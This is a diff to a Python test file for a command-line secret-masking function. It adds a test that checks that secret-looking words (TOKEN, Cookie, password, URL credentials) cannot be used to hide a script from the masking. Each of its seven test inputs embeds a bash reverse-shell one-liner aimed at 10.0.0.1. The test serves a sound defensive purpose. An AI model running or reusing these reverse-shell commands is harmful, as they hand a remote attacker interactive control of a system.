@@ -228,3 +228,20 @@ def test_a_hostile_argument_costs_no_more_than_its_length(piece: bytes) -> None:
     began = time.perf_counter()
     mask_argv(argv)
     assert time.perf_counter() - began < 1.5
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "bash -c 'TOKEN=x; bash -i >& /dev/tcp/10.0.0.1/4 0>&1'",
+        "bash -c ': Cookie: ; bash -i >& /dev/tcp/10.0.0.1/4 0>&1'",
+        "bash -c ': password: ;bash -i >& /dev/tcp/10.0.0.1/4 0>&1'",
+        "bash -c ': --password; bash -i >& /dev/tcp/10.0.0.1/4 0>&1'",
+        "bash -c ': https://a:b@c; bash -i >& /dev/tcp/10.0.0.1/4 0>&1'",
+        "ruby -e 'token=1;`bash -i >& /dev/tcp/10.0.0.1/4 0>&1`'",
+        "env TOKEN=x bash -c 'secret=1 bash -i >& /dev/tcp/10.0.0.1/4 0>&1'",
+    ],
+)
+def test_a_word_that_looks_like_a_secret_does_not_hide_a_script(command: str) -> None:
+    masked, _ = mask_argv(_argv(command))
+    assert b">& /dev/tcp/10.0.0.1/4" in b" ".join(masked)
